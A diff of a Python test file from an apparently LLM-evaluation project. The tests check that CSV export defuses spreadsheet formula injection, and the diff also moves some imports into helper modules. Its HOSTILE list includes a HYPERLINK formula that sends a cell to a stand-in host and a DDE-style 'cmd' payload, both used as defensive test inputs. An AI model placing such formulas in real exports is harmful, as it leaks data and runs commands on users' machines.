@@ -4,7 +4,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -13,10 +12,10 @@ from evaluators import cli
 from evaluators.presentation.csv_export import FORMULA_START, safe_for_spreadsheets, to_csv
 from evaluators.judges import prompts
 from evaluators.store import close_store, open_store
-from tests.openai_server import Reply
-from tests.test_stored_formulas import S, _verification, _write_jsonl, holistic, judged_by_llm
+from tests.helpers.openai_server import Reply
+from tests.helpers.llm_runs import S, verification, write_jsonl, holistic, judged_by_llm
+from tests.helpers import ROOT
 
-ROOT = Path(__file__).resolve().parent.parent
 
 # What a judge (or a prompt injection through an answer) may write: formulas in each spreadsheet's spellings.
 HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
@@ -45,7 +44,7 @@ def _hostile_responder(body: dict) -> Reply:
         return Reply.json({"generated_questions": [HOSTILE[2]] * 3, "answer_claims": HOSTILE[:2],
                            "reference_claims": HOSTILE[2:4]})
     spec = dict(answer_claims=[({0: S}, S)] * 2, reference_claims=[({0: S}, S)] * 2, relevant={0})
-    reply = _verification(spec, body["messages"][1]["content"])
+    reply = verification(spec, body["messages"][1]["content"])
     reply["chunks"][0]["reason"] = HOSTILE[4]
     return Reply.json(reply)
 
@@ -54,9 +53,9 @@ def _hostile_responder(body: dict) -> Reply:
 def judged_run(tmp_path_factory):
     """A database with one run an LLM judge scored, its claims, reasons and explanation all formulas."""
     tmp = tmp_path_factory.mktemp("csv")
-    golden = _write_jsonl(tmp / "g.jsonl", [{"question_id": "q1", "question": "Where is the heath?",
+    golden = write_jsonl(tmp / "g.jsonl", [{"question_id": "q1", "question": "Where is the heath?",
                                              "reference": "On the cliffs. It is purple."}])
-    outputs = _write_jsonl(tmp / "o.jsonl", [{"question_id": "q1", "method": "local_search", "answer": "On the cliffs.",
+    outputs = write_jsonl(tmp / "o.jsonl", [{"question_id": "q1", "method": "local_search", "answer": "On the cliffs.",
                                               "contexts": ["The heath grows on the cliffs."]}])
     db = tmp / "csv.duckdb"
     store = open_store(db)
